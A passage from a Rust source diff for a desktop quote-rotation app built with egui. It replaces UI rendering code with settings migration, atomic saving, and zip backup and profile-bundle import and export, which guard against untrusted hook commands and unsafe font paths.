+            numeral_system: NumeralSystem::default(),
+            roulette_theme: false,
+            energy_matching: false,
+            energy_bands: default_energy_bands(),
+            content_rotation: 0,
+            theme_automation: false,
+            theme_bands: default_theme_bands(),
+            default_sub_text: default_sub_text(),
+            rotation_mode: RotationMode::default(),
+            daily_quote: None,
+            rotation_sync: RotationSync::default(),
+            reading_time_interval: false,
+            reading_wpm: DEFAULT_READING_WPM,
+            reading_bengali_cpm: DEFAULT_READING_BENGALI_CPM,
+            seed: None,
+            background_3d: false,
+            background: BackgroundConfig::default(),
+            low_power: LowPowerConfig::default(),
+            display_mode: DisplayMode::Normal,
+            hotspots: [CornerAction::default(); 4],
+            last_open_date: None,
+            streak: 0,
+            auto_backup: false,
+            last_auto_backup: None,
+            focus_dim: false,
+            focus_dim_level: DEFAULT_FOCUS_DIM_LEVEL,
+            clipboard_capture_minutes: DEFAULT_CLIPBOARD_CAPTURE_MINUTES,
+            section_open: HashMap::new(),
+            title_bar_items: default_title_bar_items(),
+            sound_on_rotate: false,
+            sound_on_complete: true,
+            sound_volume: DEFAULT_SOUND_VOLUME,
+            ui_scale: 1.0,
+            quote_max_chars: DEFAULT_QUOTE_MAX_CHARS,
+            clean_quote_text: true,
+            quote_in_title: true,
+            window_placement: WindowPlacement::default(),
+            window_position: None,
+            home_position: None,
+            window_size: None,
+            lock_aspect_ratio: false,
+            always_on_top: true,
+            click_through: false,
+            onboarding_done: true,
+            on_rotate_command: String::new(),
+            on_session_complete_command: String::new(),
+            check_updates: false,
+            last_update_check: None,
+            skipped_version: None,
+            reported_crash: None,
+            cursor_autohide: false,
+            cursor_hide_secs: DEFAULT_CURSOR_HIDE_SECS,
+            tag_colors: std::collections::BTreeMap::new(),
+            show_quote_tags: false,
+            overlay_enabled: false,
+            overlay_port: DEFAULT_OVERLAY_PORT,
+        }
+    }
+}
 
-                            let r = (c1.r() as f32 * (1.0 - fract) + c2.r() as f32 * fract) as u8;
-                            let g = (c1.g() as f32 * (1.0 - fract) + c2.g() as f32 * fract) as u8;
-                            let b = (c1.b() as f32 * (1.0 - fract) + c2.b() as f32 * fract) as u8;
-                            let a = (c1.a() as f32 * (1.0 - fract) + c2.a() as f32 * fract) as u8;
+impl AppConfig {
+    fn load() -> Result<Self, ConfigError> {
+        Self::load_from(std::path::Path::new(SETTINGS_FILE))
+    }
 
-                            Color32::from_rgba_premultiplied(r, g, b, a)
-                        };
+    fn load_from(path: &std::path::Path) -> Result<Self, ConfigError> {
+        let text = std::fs::read_to_string(path).map_err(ConfigError::Io)?;
+        Self::from_json(&text)
+    }
 
-                        let steps_x = 32;
-                        let steps_y = 32;
+    /// Parse settings JSON written by any known version
+    fn from_json(text: &str) -> Result<Self, ConfigError> {
+        let raw: serde_json::Value = serde_json::from_str(text)?;
+        migrate(raw)
+    }
 
-                        for yi in 0..=steps_y {
-                            let ty = yi as f32 / steps_y as f32;
-                            for xi in 0..=steps_x {
-                                let tx = xi as f32 / steps_x as f32;
-                                let p =
-                                    rect.min + egui::vec2(rect.width() * tx, rect.height() * ty);
+    /// Written by a newer build whose fields we may not understand
+    fn is_from_future(&self) -> bool {
+        self.config_version > CONFIG_VERSION
+    }
 
-                                let proj = project(p);
+    /// Guarantee at least one collection and an in-bounds active index
+    fn normalize_collections(&mut self) {
+        if self.collections.is_empty() {
+            self.collections
+                .push(Collection::new("Default", Vec::new()));
+        }
+        self.active_collection = self.active_collection.min(self.collections.len() - 1);
+    }
 
-                                mesh.vertices.push(Vertex {
-                                    pos: p,
-                                    uv: egui::pos2(0.0, 0.0), // Use the white pixel to avoid rendering font texture atlas
-                                    color: calc_color(proj),
-                                });
-                            }
-                        }
+    /// Pretty printed JSON, exactly as written to settings.json
+    fn to_json(&self) -> Result<String, ConfigError> {
+        serde_json::to_string_pretty(self)
+            .map_err(|e| ConfigError::Unwritable(std::io::Error::other(e)))
+    }
 
-                        for yi in 0..steps_y {
-                            for xi in 0..steps_x {
-                                let i0 = yi * (steps_x + 1) + xi;
-                                let i1 = i0 + 1;
-                                let i2 = (yi + 1) * (steps_x + 1) + xi;
-                                let i3 = i2 + 1;
+    /// Write settings.json through a temporary file and a rename, so a crash
+    /// mid-write never leaves it truncated; returns the hash of the content
+    fn save(&self) -> Result<u64, ConfigError> {
+        let json = self.to_json()?;
+        let tmp = format!("{}.tmp", SETTINGS_FILE);
+        std::fs::write(&tmp, &json).map_err(ConfigError::Unwritable)?;
+        std::fs::rename(&tmp, SETTINGS_FILE).map_err(ConfigError::Unwritable)?;
+        Ok(content_hash(&json))
+    }
+}
 
-                                mesh.indices.extend_from_slice(&[i0, i1, i2, i1, i3, i2]);
-                            }
-                        }
+// Current settings.json shape; bump it and add a step to `migrate` when a
+// field is renamed or restructured
+const CONFIG_VERSION: u32 = 2;
 
-                        ui.painter_at(rect).add(egui::Shape::mesh(mesh));
-                    }
-                }
-            }
+/// Files without a `config_version` predate versioning
+fn legacy_config_version() -> u32 {
+    1
+}
 
-            ui.vertical_centered(|ui| {
-                ui.add_space(80.0);
+/// Upgrade raw settings JSON one version at a time, then deserialize.
+/// Versions newer than ours are left untouched (callers go read-only).
+fn migrate(mut raw: serde_json::Value) -> Result<AppConfig, ConfigError> {
+    let version = raw
+        .get("config_version")
+        .and_then(|v| v.as_u64())
+        .map_or(legacy_config_version(), |v| v as u32);
+
+    if version <= CONFIG_VERSION {
+        if version < 2 {
+            migrate_v1_to_v2(&mut raw);
+        }
+        if let Some(obj) = raw.as_object_mut() {
+            obj.insert("config_version".into(), CONFIG_VERSION.into());
+        }
+    }
 
-                // PREVIEW & EDITING LOGIC
-                // If inputs have content, show them (Live Preview).
-                let (main_text, sub_text, is_preview) = if !state.main_text_input.is_empty() {
-                    (
-                        state.main_text_input.clone(),
-                        state.sub_text_input.clone(),
-                        true,
-                    )
-                } else if !state.sub_text_input.is_empty() {
-                    (
-                        "Type text to preview...".to_string(),
-                        state.sub_text_input.clone(),
-                        true,
-                    )
-                } else {
-                    // Not previewing, load current quote
-                    match state.current_quote() {
-                        Some(q) => (q.main_text.clone(), q.sub_text.clone(), false),
-                        None => (String::new(), String::new(), false),
-                    }
-                };
+    Ok(serde_json::from_value(raw)?)
+}
 
-                if !is_preview
-                    && main_text.is_empty()
-                    && sub_text.is_empty()
-                    && state.quotes.is_empty()
-                {
-                    ui.label(
-                        RichText::new("No quotes added yet!")
-                            .color(Color32::GRAY)
-                            .size(20.0),
-                    );
-                } else {
-                    // 1. MAIN TEXT
-                    let main_color = if is_preview && state.main_text_input.is_empty() {
-                        Color32::WHITE.linear_multiply(0.6)
-                    } else {
-                        state.text_style.main_text_color
-                    };
-                    let main_size =
-                        state.text_style.main_text_size * state.title_bar_state.zoom_level;
+/// v1 kept one flat `quotes` list; v2 groups quotes into named collections
+fn migrate_v1_to_v2(raw: &mut serde_json::Value) {
+    let Some(obj) = raw.as_object_mut() else {
+        return;
+    };
+    let quotes = obj
+        .remove("quotes")
+        .unwrap_or_else(|| serde_json::Value::Array(Vec::new()));
+    if !obj.contains_key("collections") {
+        obj.insert(
+            "collections".into(),
+            serde_json::json!([{ "name": "Default", "quotes": quotes }]),
+        );
+    }
+}
 
-                    // Try cosmic-text shaped rendering for Bengali
-                    // Use base color (without opacity) for cache efficiency
-                    let base_main_color = state.text_style.main_text_color;
-                    let used_shaped = if contains_bengali(&main_text) {
-                        if let Some((ref mut fs, ref mut sc, ref mut tc)) = shaper {
-                            if let Some((tex_id, size)) = render_shaped_text(
-                                ctx,
-                                fs,
-                                sc,
-                                &main_text,
-                                main_size,
-                                base_main_color,
-                                tc,
-                            ) {
-                                let resp = ui.add(
-                                    egui::Image::new(egui::load::SizedTexture::new(tex_id, size))
-                                        .sense(if is_preview {
-                                            egui::Sense::hover()
-                                        } else {
-                                            egui::Sense::click()
-                                        }),
-                                );
-                                if !is_preview && resp.double_clicked() {
-                                    state.main_text_input = main_text.clone();
-                                    state.sub_text_input = sub_text.clone();
-                                    state.title_bar_state.control_panel_visible = true;
-                                    state.rotation_enabled = false;
-                                    state.delete_quote(state.current_quote_index);
-                                    state.save();
-                                }
-                                true
-                            } else {
-                                false
-                            }
-                        } else {
-                            false
-                        }
-                    } else {
-                        false
-                    };
+/// Why settings.json could not be loaded or saved
+#[derive(Debug)]
+pub enum ConfigError {
+    Io(std::io::Error),
+    Parse {
+        line: usize,
+        column: usize,
+        message: String,
+    },
+    Unwritable(std::io::Error),
+}
 
-                    if !used_shaped {
-                        let main_resp = ui.add(
-                            egui::Label::new(
-                                RichText::new(&main_text)
-                                    .color(main_color)
-                                    .size(main_size)
-                                    .strong(),
-                            )
-                            .sense(if is_preview {
-                                egui::Sense::hover()
-                            } else {
-                                egui::Sense::click()
-                            }),
-                        );
+impl ConfigError {
+    /// No settings file yet, which is normal on first launch
+    fn is_missing(&self) -> bool {
+        matches!(self, ConfigError::Io(e) if e.kind() == std::io::ErrorKind::NotFound)
+    }
+}
 
-                        if !is_preview && main_resp.double_clicked() {
-                            // Double click: Edit & Remove
-                            state.main_text_input = main_text.clone();
-                            state.sub_text_input = sub_text.clone();
-                            state.title_bar_state.control_panel_visible = true;
-                            state.rotation_enabled = false;
-                            state.delete_quote(state.current_quote_index);
-                            state.save();
-                        }
-                    } // end if !used_shaped
+impl std::fmt::Display for ConfigError {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        match self {
+            ConfigError::Io(e) => write!(f, "could not read {}: {}", SETTINGS_FILE, e),
+            ConfigError::Parse { message, .. } => {
+                write!(f, "{} is not valid: {}", SETTINGS_FILE, message)
+            }
+            ConfigError::Unwritable(e) => write!(f, "could not write {}: {}", SETTINGS_FILE, e),
+        }
+    }
+}
 
-                    ui.add_space(state.text_style.between_gap);
+impl std::error::Error for ConfigError {}
 
-                    // 2. SUB TEXT
-                    if state.subtitle_editing && !is_preview {
-                        // INLINE SUBTITLE EDITING
-                        let edit = egui::TextEdit::singleline(&mut state.subtitle_edit_buffer)
-                            .desired_width(300.0)
-                            .horizontal_align(egui::Align::Center)
-                            .font(egui::FontId::proportional(
-                                state.text_style.sub_text_size * state.title_bar_state.zoom_level,
-                            ));
+impl From<serde_json::Error> for ConfigError {
+    fn from(e: serde_json::Error) -> Self {
+        if e.is_io() {
+            ConfigError::Io(e.into())
+        } else {
+            ConfigError::Parse {
+                line: e.line(),
+                column: e.column(),
+                message: e.to_string(),
+            }
+        }
+    }
+}
 
-                        let response = ui.add(edit);
-                        response.request_focus();
+/// Move an unreadable settings.json aside as settings.json.bak-<timestamp>
+fn backup_corrupt_settings() -> std::io::Result<std::path::PathBuf> {
+    backup_corrupt_file(std::path::Path::new(SETTINGS_FILE))
+}
 
-                        if response.lost_focus() || ui.input(|i| i.key_pressed(egui::Key::Enter)) {
-                            state.subtitle_editing = false;
-                            if let Some(quote) = state.quotes.get_mut(state.current_quote_index) {
-                                quote.sub_text = state.subtitle_edit_buffer.clone();
-                                state.save();
-                            }
-                        }
-                    } else {
-                        // DISPLAY SUBTITLE
-                        let sub_color = if is_preview && state.sub_text_input.is_empty() {
-                            Color32::TRANSPARENT
-                        } else {
-                            state.text_style.sub_text_color
-                        };
+fn backup_corrupt_file(path: &std::path::Path) -> std::io::Result<std::path::PathBuf> {
+    let stamp = chrono::Local::now().format("%Y%m%d-%H%M%S");
+    let backup = std::path::PathBuf::from(format!("{}.bak-{}", path.display(), stamp));
+    std::fs::rename(path, &backup)?;
+    Ok(backup)
+}
 
-                        if !sub_text.is_empty() || is_preview {
-                            let sub_size =
-                                state.text_style.sub_text_size * state.title_bar_state.zoom_level;
+/// Manifest stored next to settings.json inside a backup archive
+#[derive(Serialize, Deserialize)]
+struct BackupManifest {
+    created: chrono::NaiveDateTime,
+}
 
-                            // Try cosmic-text shaped rendering for Bengali subtitle
-                            let base_sub_color = state.text_style.sub_text_color;
-                            let used_shaped_sub = if contains_bengali(&sub_text) {
-                                if let Some((ref mut fs, ref mut sc, ref mut tc)) = shaper {
-                                    if let Some((tex_id, size)) = render_shaped_text(
-                                        ctx,
-                                        fs,
-                                        sc,
-                                        &sub_text,
-                                        sub_size,
-                                        base_sub_color,
-                                        tc,
-                                    ) {
-                                        let sub_resp =
-                                            ui.add(
-                                                egui::Image::new(egui::load::SizedTexture::new(
-                                                    tex_id, size,
-                                                ))
-                                                .sense(if is_preview {
-                                                    egui::Sense::hover()
-                                                } else {
-                                                    egui::Sense::click()
-                                                }),
-                                            );
-                                        if !is_preview {
-                                            if sub_resp.double_clicked() {
-                                                // Double click: Edit & Remove
-                                                state.main_text_input = main_text.clone();
-                                                state.sub_text_input = sub_text.clone();
-                                                state.title_bar_state.control_panel_visible = true;
-                                                state.rotation_enabled = false;
-                                                state.delete_quote(state.current_quote_index);
-                                                state.save();
-                                            } else if sub_resp.clicked() {
-                                                // Single click: Inline Edit
-                                                state.subtitle_editing = true;
-                                                state.subtitle_edit_buffer = sub_text.clone();
-                                            }
-                                        }
-                                        true
-                                    } else {
-                                        false
-                                    }
-                                } else {
-                                    false
-                                }
-                            } else {
-                                false
-                            };
+/// Manifest of a profile bundle: which versions made it and what's inside
+#[derive(Debug, Serialize, Deserialize)]
+struct ProfileManifest {
+    created: chrono::NaiveDateTime,
+    app_version: String,
+    config_version: u32,
+    // File name of the Bengali font under BUNDLE_FONT_DIR, if one was copied
+    font: Option<String>,
+}
 
-                            if !used_shaped_sub {
-                                let sub_resp = ui.add(
-                                    egui::Label::new(
-                                        RichText::new(&sub_text).color(sub_color).size(sub_size),
-                                    )
-                                    .sense(if is_preview {
-                                        egui::Sense::hover()
-                                    } else {
-                                        egui::Sense::click()
-                                    }),
-                                );
+/// A backup archive that passed validation, waiting on the user's confirm
+#[derive(Debug)]
+struct PendingRestore {
+    path: std::path::PathBuf,
+    config: AppConfig,
+    created: Option<chrono::NaiveDateTime>,
+    quotes: usize,
+    // Profile bundles only: the version that made it, and the font to copy
+    // next to settings.json (file name, contents)
+    made_by: Option<String>,
+    font: Option<(String, Vec<u8>)>,
+    // The archive's hook commands were looked at and are wanted; without
+    // that the ones set up here stay (see `keep_commands_unless_chosen`)
+    install_commands: bool,
+}
 
-                                if !is_preview {
-                                    if sub_resp.double_clicked() {
-                                        // Double click: Edit & Remove
-                                        state.main_text_input = main_text;
-                                        state.sub_text_input = sub_text.clone();
-                                        state.title_bar_state.control_panel_visible = true;
-                                        state.rotation_enabled = false;
-                                        state.delete_quote(state.current_quote_index);
-                                        state.save();
-                                    } else if sub_resp.clicked() {
-                                        // Single click: Inline Edit
-                                        state.subtitle_editing = true;
-                                        state.subtitle_edit_buffer = sub_text;
-                                    }
-                                }
-                            } // end if !used_shaped_sub
-                        }
-                    }
-                }
+impl PendingRestore {
+    /// Hook commands the archive would install: shell commands from a file
+    /// that may not be ours, so they're shown before anything takes them up
+    fn commands(&self) -> Vec<&str> {
+        [
+            &self.config.on_rotate_command,
+            &self.config.on_session_complete_command,
+        ]
+        .into_iter()
+        .map(|command| command.trim())
+        .filter(|command| !command.is_empty())
+        .collect()
+    }
 
-                ui.add_space(40.0);
-            });
-        });
+    /// Files here the restore writes over, for the preview to name first
+    fn overwrites(&self) -> Vec<&str> {
+        let font = self.font.as_ref().map(|(name, _)| name.as_str());
+        [Some(SETTINGS_FILE), Some(PRERESTORE_FILE), font]
+            .into_iter()
+            .flatten()
+            .filter(|name| std::path::Path::new(name).exists())
+            .collect()
+    }
+
+    /// Swap the archive's hook commands for the current ones, unless
+    /// `install_commands` was chosen
+    fn keep_commands_unless_chosen(&mut self, on_rotate: &str, on_session_complete: &str) {
+        if !self.install_commands {
+            self.config.on_rotate_command = on_rotate.to_string();
+            self.config.on_session_complete_command = on_session_complete.to_string();
+        }
+    }
 }
 
-// =============================================================================
-// CONTROL PANEL RENDERER
-// =============================================================================
+/// Zip `config` (as settings.json) plus a manifest into `path`
+fn write_backup(config: &AppConfig, path: &std::path::Path) -> Result<(), String> {
+    let json = config.to_json().map_err(|e| e.to_string())?;
+    let manifest = serde_json::to_string_pretty(&BackupManifest {
+        created: chrono::Local::now().naive_local(),
+    })
+    .map_err(|e| e.to_string())?;
+
+    let file = std::fs::File::create(path).map_err(|e| e.to_string())?;
+    let mut zip = zip::ZipWriter::new(file);
+    let options = zip::write::SimpleFileOptions::default()
+        .compression_method(zip::CompressionMethod::Deflated);
+    for (name, contents) in [(SETTINGS_FILE, &json), ("backup.json", &manifest)] {
+        zip.start_file(name, options).map_err(|e| e.to_string())?;
+        zip.write_all(contents.as_bytes())
+            .map_err(|e| e.to_string())?;
+    }
+    zip.finish().map_err(|e| e.to_string())?;
+    Ok(())
+}
 
-/// Render the control panel contents (inside SidePanel)
-pub fn render_control_panel_contents(
-    ui: &mut egui::Ui,
-    state: &mut AppState,
-    shaper: &mut Option<(
-        &mut cosmic_text::FontSystem,
-        &mut cosmic_text::SwashCache,
-        &mut HashMap<u64, egui::TextureHandle>,
-    )>,
-) {
-    ui.set_max_width(ui.available_width()); // Prevent horizontal overflow
-    egui::ScrollArea::vertical()
-        .auto_shrink([false, false])
-        .enable_scrolling(true)
-        .show(ui, |ui| {
-            ui.set_width(ui.available_width());
+/// Open a backup archive and check its settings.json parses (through the
+/// usual migrations) and isn't from a newer version than ours
+fn read_backup(path: &std::path::Path) -> Result<PendingRestore, String> {
+    use std::io::Read;
+    let file = std::fs::File::open(path).map_err(|e| e.to_string())?;
+    let mut archive = zip::ZipArchive::new(file).map_err(|e| e.to_string())?;
+
+    let mut text = String::new();
+    archive
+        .by_name(SETTINGS_FILE)
+        .map_err(|_| format!("no {} in this archive", SETTINGS_FILE))?
+        .read_to_string(&mut text)
+        .map_err(|e| e.to_string())?;
+    let config = AppConfig::from_json(&text).map_err(|e| e.to_string())?;
+    if config.is_from_future() {
+        return Err("it was made by a newer version of Daily Motivation".into());
+    }
 
-            // ===== Add Custom Text Section =====
-            render_section(ui, &format!("ADD CUSTOM TEXT  [{}]", state.quotes.len() + 1), |ui| {
-                // --- Main text input with A+/A-/color buttons to the right ---
-                ui.horizontal(|ui| {
-                    // Textarea on the left
-                    let text_width = (ui.available_width() - 80.0).max(50.0);
-                    let mut text_response = None;
-                    egui::Frame::none()
-                        .fill(Color32::from_black_alpha(60))
-                        .stroke(Stroke::new(1.0, NEON_CYAN.gamma_multiply(0.2)))
-                        .rounding(Rounding::same(4.0))
-                        .show(ui, |ui| {
-                            let resp = ui.add(
-                                egui::TextEdit::multiline(&mut state.main_text_input)
-                                    .hint_text(
-                                        "Main text... (Enter to submit, Shift+Enter for new line)",
-                                    )
-                                    .desired_rows(3)
-                                    .desired_width(text_width)
-                                    .lock_focus(true),
-                            );
-                            text_response = Some(resp);
-                        });
-                    
-                    let text_response = text_response.unwrap();
-                    if text_response.changed() {
-                        ui.ctx().request_repaint();
-                    }
-                    if text_response.has_focus()
-                        && ui.input(|i| i.key_pressed(egui::Key::Enter) && !i.modifiers.shift)
-                    {
-                        if !state.main_text_input.trim().is_empty() {
-                            state.add_quote(
-                                state.main_text_input.clone(),
-                                state.sub_text_input.clone(),
-                            );
-                            state.save();
-                            state.main_text_input.clear();
-                            state.sub_text_input.clear();
-                            text_response.request_focus();
-                        }
-                    }
+    // Older or hand-made archives may lack the manifest; that's fine
+    let created = archive.by_name("backup.json").ok().and_then(|mut entry| {
+        let mut manifest = String::new();
+        entry.read_to_string(&mut manifest).ok()?;
+        serde_json::from_str::<BackupManifest>(&manifest)
+            .ok()
+            .map(|m| m.created)
+    });
+    let quotes = config.collections.iter().map(|c| c.quotes.len()).sum();
+    Ok(PendingRestore {
+        path: path.to_path_buf(),
+        config,
+        created,
+        quotes,
+        made_by: None,
+        font: None,
+        install_commands: false,
+    })
+}
 
-                    // Buttons column on the right
-                    ui.vertical(|ui| {
-                        ui.horizontal(|ui| {
-                            if ui
-                                .small_button(RichText::new("A+").color(Color32::WHITE).size(10.5))
-                                .clicked()
-                                && state.text_style.main_text_size < 100.0
-                            {
-                                state.text_style.main_text_size += 2.0;
-                                state.save();
-                            }
-                            // Color picker button
-                            let color_btn = ui.add(
-                                egui::Button::new(RichText::new("🎨").color(Color32::WHITE).size(13.0))
-                                    .fill(Color32::from_rgb(244, 67, 54))
-                                    .stroke(Stroke::new(1.0, Color32::WHITE.gamma_multiply(0.4)))
-                                    .min_size(Vec2::new(24.0, 20.0)),
-                            );
-                            if color_btn.clicked() {
-                                state.show_main_color_picker = !state.show_main_color_picker;
-                            }
-                        });
-                        if ui
-                            .small_button(RichText::new("A-").color(Color32::WHITE).size(10.5))
-                            .clicked()
-                            && state.text_style.main_text_size > 12.0
-                        {
-                            state.text_style.main_text_size -= 2.0;
-                            state.save();
-                        }
-                    });
-                });
+/// Zip a backup of `config` plus the Bengali font, if it's a copy of our
+/// own rather than a system font, and a manifest with versions into `path`
+fn write_profile_bundle(config: &AppConfig, path: &std::path::Path) -> Result<(), String> {
+    let font = local_bengali_font()
+        .map(|font| std::fs::read(font).map(|data| (font, data)))
+        .transpose()
+        .map_err(|e| format!("could not read the font: {e}"))?;
+    let font_name = font.as_ref().and_then(|(font, _)| {
+        let name = std::path::Path::new(font).file_name()?;
+        Some(name.to_string_lossy().into_owned())
+    });
+    let json = config.to_json().map_err(|e| e.to_string())?;
+    let manifest = serde_json::to_string_pretty(&ProfileManifest {
+        created: chrono::Local::now().naive_local(),
+        app_version: env!("CARGO_PKG_VERSION").to_string(),
+        config_version: CONFIG_VERSION,
+        font: font_name.clone(),
+    })
+    .map_err(|e| e.to_string())?;
+
+    let file = std::fs::File::create(path).map_err(|e| e.to_string())?;
+    let mut zip = zip::ZipWriter::new(file);
+    let options = zip::write::SimpleFileOptions::default()
+        .compression_method(zip::CompressionMethod::Deflated);
+    for (name, contents) in [(SETTINGS_FILE, &json), (PROFILE_MANIFEST, &manifest)] {
+        zip.start_file(name, options).map_err(|e| e.to_string())?;
+        zip.write_all(contents.as_bytes())
+            .map_err(|e| e.to_string())?;
+    }
+    if let (Some(name), Some((_, data))) = (font_name, font) {
+        let entry = format!("{BUNDLE_FONT_DIR}/{name}");
+        zip.start_file(entry, options).map_err(|e| e.to_string())?;
+        zip.write_all(&data).map_err(|e| e.to_string())?;
+    }
+    zip.finish().map_err(|e| e.to_string())?;
+    Ok(())
+}
 
-                // Color picker popup for main text
-                if state.show_main_color_picker {
-                    egui::Frame::none()
-                        .fill(Color32::from_black_alpha(40))
-                        .stroke(Stroke::new(1.0, NEON_CYAN.gamma_multiply(0.25)))
-                        .inner_margin(Vec2::new(8.0, 8.0))
-                        .rounding(Rounding::same(4.0))
-                        .show(ui, |ui| {
-                            let mut color_arr = [
-                                state.text_style.main_text_color.r(),
-                                state.text_style.main_text_color.g(),
-                                state.text_style.main_text_color.b(),
-                                255u8,
-                            ];
-                            if ui
-                                .color_edit_button_srgba_unmultiplied(&mut color_arr)
-                                .changed()
-                            {
-                                state.text_style.main_text_color =
-                                    Color32::from_rgb(color_arr[0], color_arr[1], color_arr[2]);
-                                state.save();
-                            }
-                        });
-                }
+/// Open a profile bundle: its manifest must be there and not from a newer
+/// settings version, then settings.json is checked like a backup's
+fn read_profile_bundle(path: &std::path::Path) -> Result<PendingRestore, String> {
+    use std::io::Read;
+    let file = std::fs::File::open(path).map_err(|e| e.to_string())?;
+    let mut archive = zip::ZipArchive::new(file).map_err(|e| e.to_string())?;
+
+    let mut text = String::new();
+    archive
+        .by_name(PROFILE_MANIFEST)
+        .map_err(|_| format!("no {} in this archive", PROFILE_MANIFEST))?
+        .read_to_string(&mut text)
+        .map_err(|e| e.to_string())?;
+    let manifest: ProfileManifest = serde_json::from_str(&text).map_err(|e| e.to_string())?;
+    if manifest.config_version > CONFIG_VERSION {
+        return Err(format!(
+            "it was made by Daily Motivation {}, newer than this one",
+            manifest.app_version
+        ));
+    }
 
-                ui.add_space(8.0);
+    let mut restore = read_backup(path)?;
+    restore.created = Some(manifest.created);
+    // Only the file name: a bundle can't write anywhere but next to settings.json
+    let font_name = manifest.font.as_deref().and_then(|font| {
+        let name = std::path::Path::new(font).file_name()?;
+        Some(name.to_string_lossy().into_owned())
+    });
+    if let Some(name) = font_name {
+        if !is_font_file(&name) {
+            return Err(format!(
+                "the manifest lists {name}, which isn't a .ttf or .otf font"
+            ));
+        }
+        let mut data = Vec::new();
+        archive
+            .by_name(&format!("{BUNDLE_FONT_DIR}/{name}"))
+            .map_err(|_| format!("the manifest lists {name}, but the font is missing"))?
+            .read_to_end(&mut data)
+            .map_err(|e| e.to_string())?;
+        restore.font = Some((name, data));
+    }
+    restore.made_by = Some(manifest.app_version);
+    Ok(restore)
+}
 
-                // --- Supporting text input with A+/A-/color buttons to the right ---
-                ui.horizontal(|ui| {
-                    let text_width = (ui.available_width() - 80.0).max(50.0);
-                    let mut sub_response = None;
-                    egui::Frame::none()
-                        .fill(Color32::from_black_alpha(60))
-                        .stroke(Stroke::new(1.0, NEON_CYAN.gamma_multiply(0.2)))
-                        .rounding(Rounding::same(4.0))
-                        .show(ui, |ui| {
-                            let resp = ui.add(
-                                egui::TextEdit::multiline(&mut state.sub_text_input)
-                                    .hint_text(
-                                        "Supporting text... (Enter to submit, Shift+Enter for new line)",
-                                    )
-                                    .desired_rows(2)
-                                    .desired_width(text_width),
-                            );
-                            sub_response = Some(resp);
-                        });
+/// A bundle's font is only written out under a font file name
+fn is_font_file(name: &str) -> bool {
+    std::path::Path::new(name)
+        .extension()
+        .is_some_and(|ext| ext.eq_ignore_ascii_case("ttf") || ext.eq_ignore_ascii_case("otf"))
+}
 
-                    let sub_response = sub_response.unwrap();
-                    if sub_response.changed() {
-                        ui.ctx().request_repaint();
-                    }
-                    if sub_response.has_focus()
-                        && ui.input(|i| i.key_pressed(egui::Key::Enter) && !i.modifiers.shift)
-                    {
-                        if !state.main_text_input.trim().is_empty() {
-                            // Only add if main text exists? Original: "Enter in EITHER triggers Add"
-                            state.add_quote(
-                                state.main_text_input.clone(),
-                                state.sub_text_input.clone(),
-                            );
-                            state.save();
-                            state.main_text_input.clear();
-                            state.sub_text_input.clear();
-                            // Focus back to main
-                            // usage of main_text_response would be hard here as it's out of scope?
-                            // I will set a flag or rely on `request_focus` content.
-                            // Actually, I can't request focus on main input easily here without storing ID.
-                            // But user asked "Focus returns to main textarea automatically".
-                            // I'll skip focusing for now or try to use state.
-                        }
-                    }
+/// Hash used to tell our own settings writes apart from external edits
+fn content_hash(text: &str) -> u64 {
+    use std::hash::{Hash, Hasher};
+    let mut hasher = std::collections::hash_map::DefaultHasher::new();
+    text.hash(&mut hasher);
+    hasher.finish()
+}
 
-                    ui.vertical(|ui| {
-                        // Floating reference number at 45° top-right (outside frame)
-                        ui.horizontal(|ui| {
-                            if ui
-                                .small_button(RichText::new("A+").color(Color32::WHITE).size(10.5))
-                                .clicked()
-                                && state.text_style.sub_text_size < 50.0
-                            {
-                                state.text_style.sub_text_size += 1.0;
-                                state.save();
-                            }
-                            let color_btn = ui.add(
-                                egui::Button::new(RichText::new("🎨").color(Color32::WHITE).size(13.0))
-                                    .fill(Color32::from_rgb(244, 67, 54))
-                                    .stroke(Stroke::new(1.0, Color32::WHITE.gamma_multiply(0.4)))
-                                    .min_size(Vec2::new(24.0, 20.0)),
-                            );
-                            if color_btn.clicked() {
-                                state.show_sub_color_picker = !state.show_sub_color_picker;
-                            }
-                        });
-                        if ui
-                            .small_button(RichText::new("A-").color(Color32::WHITE).size(10.5))
-                            .clicked()
-                            && state.text_style.sub_text_size > 8.0
-                        {
-                            state.text_style.sub_text_size -= 1.0;
-                            state.save();
-                        }
-                    });
-                });
+/// Watches the working directory for changes to settings.json
+#[derive(Debug)]
+pub struct SettingsWatcher {
+    _watcher: notify::RecommendedWatcher,
+    events: std::sync::mpsc::Receiver<()>,
+}
 
-                // Color picker popup for sub text
-                if state.show_sub_color_picker {
-                    egui::Frame::none()
-                        .fill(Color32::from_black_alpha(40))
-                        .stroke(Stroke::new(1.0, NEON_CYAN.gamma_multiply(0.25)))
-                        .inner_margin(Vec2::new(8.0, 8.0))
-                        .rounding(Rounding::same(4.0))
-                        .show(ui, |ui| {
-                            let mut color_arr = [
-                                state.text_style.sub_text_color.r(),
-                                state.text_style.sub_text_color.g(),
-                                state.text_style.sub_text_color.b(),
-                                255u8,
-                            ];
-                            if ui
-                                .color_edit_button_srgba_unmultiplied(&mut color_arr)
-                                .changed()
-                            {
-                                state.text_style.sub_text_color =
-                                    Color32::from_rgb(color_arr[0], color_arr[1], color_arr[2]);
-                                state.save();
-                            }
-                        });
+impl SettingsWatcher {
+    fn start() -> Option<Self> {
+        use notify::Watcher;
+        let (tx, events) = std::sync::mpsc::channel();
+        let mut watcher = notify::recommended_watcher(move |res: notify::Result<notify::Event>| {
+            if let Ok(event) = res {
+                let touches_settings = event
+                    .paths
+                    .iter()
+                    .any(|p| p.file_name().is_some_and(|n| n == SETTINGS_FILE));
+                if touches_settings && (event.kind.is_modify() || event.kind.is_create()) {
+                    let _ = tx.send(());
                 }
+            }
+        })
+        .ok()?;
+        // Watch the directory, not the file: editors often save by replacing it
+        watcher
+            .watch(
+                std::path::Path::new("."),
+                notify::RecursiveMode::NonRecursive,
+            )
+            .ok()?;
+        Some(Self {
+            _watcher: watcher,
+            events,
+        })
+    }
 
-                ui.add_space(8.0);
+    /// True if the file changed since the last call (bursts collapse to one)
+    fn changed(&self) -> bool {
+        self.events.try_iter().count() > 0
+    }
+}
 
-                // Add button
-                let add_btn_color = Color32::from_rgb(76, 175, 80);
-                if draw_text_button(
-                    ui,
-                    "+ Add Text",
-                    add_btn_color,
-                    ui.available_width() - 8.0,
-                    32.0,
-                )
-                .clicked()
-                {
-                    if !state.main_text_input.is_empty() {
-                        state
-                            .add_quote(state.main_text_input.clone(), state.sub_text_input.clone());
